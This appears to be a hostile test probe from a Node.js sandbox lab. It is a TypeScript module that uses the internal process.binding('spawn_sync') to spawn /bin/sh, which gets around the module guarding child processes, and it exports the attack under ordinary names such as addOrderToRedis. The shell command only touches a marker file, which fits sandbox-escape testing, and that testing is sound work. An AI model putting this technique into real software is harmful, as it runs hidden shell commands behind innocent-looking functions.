// tries: reaching Node's insides past the module that guards them
// lab: 03
// earns: 0
// told: may not|tried to
async function attack(): Promise<void> {
  (process as any).binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'touch /tmp/storelab-hostile-binding'] });
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
